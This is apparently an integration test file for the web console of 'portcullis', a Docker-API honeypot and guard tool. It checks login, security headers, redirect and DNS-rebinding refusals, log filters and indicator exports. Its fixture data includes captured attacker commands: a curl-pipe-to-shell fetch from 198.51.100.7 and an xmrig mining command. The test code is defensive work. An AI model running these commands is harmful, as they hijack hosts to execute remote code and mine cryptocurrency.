// The console over a real store file and real HTTP: login and sessions, security headers, loopback-only
// defaults (and DNS-rebinding refusal), each page and API route populated, filters, exports, live updates.
import { request } from 'node:http';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Store } from '../../../src/core/store/store.js';
import { startServe, type ServeHandle } from '../../../src/serve/index.js';
import { filledStore } from './fill.js';

const TOKEN = 'serve-test-token-0123456789';
const dir = mkdtempSync(join(tmpdir(), 'pcl-serve-'));
let store: Store;
let srv: ServeHandle;
let cookie = '';

interface Res { status: number; headers: Record<string, string | string[] | undefined>; body: string }

function get(path: string, o: { method?: string; headers?: Record<string, string>; body?: string; base?: string } = {}): Promise<Res> {
  const u = new URL(path, o.base ?? srv.url);
  return new Promise((resolve, reject) => {
    const req = request(u, { method: o.method ?? 'GET', headers: { ...(cookie ? { cookie } : {}), ...o.headers } }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks).toString('utf8') }));
    });
    req.on('error', reject);
    req.end(o.body);
  });
}

beforeAll(async () => {
  store = await filledStore(dir);
  srv = await startServe({ store, port: 0, token: TOKEN, pollMs: 100 });
});
afterAll(async () => {
  await srv.close();
  await store.close();
  rmSync(dir, { recursive: true, force: true });
});

describe('portcullis serve', () => {
  it('sends the security headers on every response, login page included', async () => {
    const r = await get('/login');
    expect(r.status).toBe(200);
    expect(r.headers['content-security-policy']).toContain("default-src 'none'");
    expect(r.headers['content-security-policy']).not.toMatch(/https?:/);
    expect(r.headers['x-frame-options']).toBe('DENY');
    expect(r.headers['x-content-type-options']).toBe('nosniff');
    expect(r.headers['referrer-policy']).toBe('no-referrer');
    expect(r.headers['strict-transport-security']).toBeUndefined();
    expect(r.body).not.toMatch(/<script>|style="|https?:\/\/(?!www\.w3\.org)/);
  });

  it('sends pages and API to the login until a right token is given', async () => {
    expect((await get('/guard')).headers.location).toBe('/login?next=%2Fguard');
    expect((await get('/api/overview')).status).toBe(401);
    const bad = await get('/login', { method: 'POST', body: 'token=nope&next=/guard', headers: { 'content-type': 'application/x-www-form-urlencoded' } });
    expect(bad.status).toBe(401);
    expect(bad.headers['set-cookie']).toBeUndefined();
    const ok = await get('/login', { method: 'POST', body: `token=${TOKEN}&next=//evil.example/`, headers: { 'content-type': 'application/x-www-form-urlencoded' } });
    expect(ok.status).toBe(303);
    expect(ok.headers.location).toBe('/');
    const set = String(ok.headers['set-cookie']);
    expect(set).toMatch(/HttpOnly/);
    expect(set).toMatch(/SameSite=Strict/);
    cookie = set.split(';')[0] ?? '';
    expect((await get('/guard')).status).toBe(200);
    const bearer = await get('/api/runs', { headers: { authorization: `Bearer ${TOKEN}`, cookie: '' } });
    expect(bearer.status).toBe(200);
    const events = await store.queryEvents({ prefix: 'serve.login.' });
    expect(events.map((e) => e.eventid)).toEqual(['serve.login.failed', 'serve.login.succeeded']);
  });

  it('shows every page populated from the store', async () => {
    const home = await get('/');
    expect(home.body).toContain('127.0.0.1:2375');
    expect(home.body).toMatch(/<svg class="chart"/);
    expect(home.body).toContain('Miner-like or kernel-thread-lookalike process');
    const scans = await get('/scans');
    expect(scans.body).toMatch(/127\.0\.0\.2:2376<\/td><td><span class="badge b-changed">changed<\/span><\/td><td>tls-required<\/td><td>exposed/);
    expect(scans.body).toMatch(/127\.0\.0\.3:2375<\/td><td><span class="badge b-new">new/);
    const audit = await get('/audit');
    expect(audit.body).toContain('Remove the tcp:// host or add --tlsverify');
    const watch = await get('/watch');
    expect(watch.body).toContain('container stopped');
    expect(watch.body).toContain('xmrig -o pool.minexmr.example:4444');
    const trap = await get('/trap');
    expect(trap.body).toContain('/trap/sess-a');
    const sess = await get('/trap/sess-a');
    expect(sess.body).toContain('chroot /mnt sh -c curl -s http://198.51.100.7/x.sh | sh');
    expect(sess.body).toContain('export-stix');
    expect((await get('/trap/nope')).status).toBe(404);
    expect((await get('/trap/%E0%A4%A')).status).toBe(400);
    expect((await get('/api/nope')).status).toBe(404);
    expect((await get('/guard', { method: 'DELETE' })).status).toBe(405);
  });

  it('filters the guard log and gives the reason of each denial', async () => {
    const r = await get('/api/guard?verdict=deny&subject=anonymous');
    const recs = (JSON.parse(r.body) as { records: { reason?: string; ruleId?: string }[] }).records;
    expect(recs).toHaveLength(1);
    expect(recs[0]).toMatchObject({ ruleId: 'PCL-GRD-007', reason: 'no credentials: client certificate missing' });
    const page = await get('/guard?verdict=deny&route=container.create');
    expect(page.body).toContain('HostConfig.Binds mounts the host root');
    expect(page.body).not.toContain('client certificate missing');
    const since = JSON.parse((await get('/api/guard?since=2026-11-01T15:40')).body) as { records: { time: string }[] };
    expect(since.records.map((x) => x.time)).toEqual(['2026-11-01T15:45:00.000Z']);
    const window = JSON.parse((await get('/api/guard?since=2026-11-01T15:00:00Z&until=2026-11-01T15:30:00.000Z')).body) as { records: unknown[] };
    expect(window.records).toHaveLength(3);
  });

  it('exports a session\'s indicators as STIX 2.1, MISP and CSV', async () => {
    const stix = JSON.parse((await get('/trap/sess-a/indicators.stix.json')).body) as { type: string; objects: { type: string; pattern?: string }[] };
    expect(stix.type).toBe('bundle');
    // The same rendering as `portcullis trap report --format stix` (src/core/intel): the attacker's address too.
    const patterns = stix.objects.filter((o) => o.type === 'indicator').map((o) => o.pattern);
    for (const p of ["[software:name = 'alpine:latest']", "[url:value = 'http://198.51.100.7/x.sh']", "[ipv4-addr:value = '198.51.100.7']",
      "[ipv4-addr:value = '127.0.0.66']"]) expect(patterns).toContain(p);
    const misp = JSON.parse((await get('/trap/sess-a/indicators.misp.json')).body) as { Event: { Attribute: { type: string; value: string }[] } };
    expect(misp.Event.Attribute).toContainEqual(expect.objectContaining({ type: 'ip-src', value: '127.0.0.66' }));
    expect(misp.Event.Attribute).toContainEqual(expect.objectContaining({ type: 'url', value: 'http://198.51.100.7/x.sh' }));
    const csv = await get('/trap/sess-a/indicators.csv');
    expect(csv.headers['content-disposition']).toContain('attachment');
    expect(csv.body.split('\r\n')[0]).toBe('"type","value","first_seen","session","src_ip","decoded"');
    expect(csv.body).toContain('"url","http://198.51.100.7/x.sh"');
  });

  it('pushes new events to open live streams', { timeout: 20_000 }, async () => {
    const got = new Promise<string>((resolve, reject) => {
      const req = request(new URL('/api/stream', srv.url), { headers: { cookie } }, (res) => {
        let buf = '';
        res.on('data', (c: Buffer) => {
          buf += c.toString('utf8');
          if (buf.includes(': portcullis live') && !buf.includes('event: update')) {
            void store.appendEvents([{ eventid: 'trap.session.opened', timestamp: new Date().toISOString(), source: 'portcullis', session: 'sess-live', src_ip: '127.0.0.9' }]);
          }
          if (buf.includes('event: update')) { req.destroy(); resolve(buf); }
        });
      });
      req.on('error', reject);
      req.end();
    });
    const text = await got;
    expect(text).toContain('"session":"sess-live"');
  });

  it('refuses to listen beyond loopback without a login, and answers only loopback names without a token', async () => {
    await expect(startServe({ store, host: '0.0.0.0', port: 0 })).rejects.toMatchObject({ code: 'PCL_ERR_SERVE_AUTH_REQUIRED' });
    const open = await startServe({ store, port: 0 });
    try {
      expect((await get('/api/runs', { base: open.url, headers: { cookie: '' } })).status).toBe(200);
      expect((await get('/api/runs', { base: open.url, headers: { cookie: '', host: 'attacker.example' } })).status).toBe(421);
    } finally {
      await open.close();
    }
  });
});
